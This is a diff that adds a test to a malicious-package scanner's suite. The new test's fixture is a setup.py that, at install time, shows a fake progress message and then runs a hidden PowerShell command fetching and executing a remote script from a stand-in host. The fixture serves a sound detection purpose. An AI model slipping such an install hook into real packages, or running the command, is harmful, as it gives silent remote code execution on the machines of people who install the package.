@@ -777,3 +777,19 @@ def test_a_service_helper_loading_a_launch_agent_on_request_is_not_flagged() -> 
     """
     result = scan({"demo/service.py": src})
     assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_command_handed_to_a_local_runner_at_install_is_malicious() -> None:
+    src = """
+        import os, subprocess
+        from setuptools import setup
+
+        def run(cmd):
+            subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)
+
+        if not os.path.exists("C:/ProgramData/Tool"):
+            print("Installing dependencies, please wait...")
+            run("powershell -w hidden -c iex (iwr https://cdn.example.net/i.ps1)")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
